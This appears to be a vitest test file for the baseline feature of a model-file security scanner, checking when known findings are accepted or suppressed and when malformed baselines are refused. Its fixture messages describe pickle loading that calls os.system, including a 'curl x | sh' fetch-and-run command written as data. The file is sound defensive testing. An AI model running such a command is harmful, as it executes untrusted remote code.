import { describe, expect, it } from "vitest";
import { baselineText, parseBaseline, withBaseline } from "../../src/engine/baseline.js";
import { finding, resultOf } from "../reporters/results.js";

const known = finding({ message: 'loading calls os.system("id")', count: 2 });
const baseline = parseBaseline(baselineText(resultOf([known])), "b.json");
const isAccepted = (changes: object) => {
  const { files } = withBaseline(resultOf([{ ...known, ...changes }]), baseline, "b.json");
  return files[0]?.findings[0]?.suppressed !== undefined;
};

describe("a baseline", () => {
  it("accepts what it lists, wherever the folder lies", () => {
    expect(isAccepted({})).toBe(true);
    expect(isAccepted({ path: "/elsewhere/models/a.pkl" })).toBe(true);
  });

  it.each([
    ["another place or subject", { fingerprint: "1".repeat(32) }],
    ["other arguments of the same call", { message: 'loading calls os.system("curl x | sh")' }],
    ["more of the same", { count: 3 }],
  ])("does not accept %s", (_case, changes) => {
    expect(isAccepted(changes)).toBe(false);
  });

  it("accepts a finding that became milder, and none that became worse", () => {
    const mild = parseBaseline(baselineText(resultOf([{ ...known, severity: "low" }])), "b.json");
    const { files } = withBaseline(resultOf([known]), mild, "b.json");
    expect(files[0]?.findings[0]?.suppressed).toBeUndefined();
    expect(isAccepted({ severity: "low" })).toBe(true);
  });

  it("leaves the reason of a suppression as it is, and lists no suppressed finding", () => {
    const suppressed = { ...known, suppressed: "reviewed" };
    expect(withBaseline(resultOf([suppressed]), baseline, "b").files[0]?.findings[0]?.suppressed).toBe("reviewed");
    expect(parseBaseline(baselineText(resultOf([suppressed])), "b")).toEqual([]);
  });

  it.each([
    ["{", "cannot be used"],
    ["[]", "it is no baseline"],
    ['{"kind":"modelaudit-baseline","version":9,"findings":[]}', "its version is not 1"],
    ['{"kind":"modelaudit-baseline","version":1,"findings":[null]}', "entry 0 is no object"],
    ['{"kind":"modelaudit-baseline","version":1,"findings":[{"fingerprint":"x"}]}', "entry 0 lacks"],
  ])("that reads %s is refused", (text, problem) => {
    expect(() => parseBaseline(text, "b.json")).toThrow(problem);
  });
});
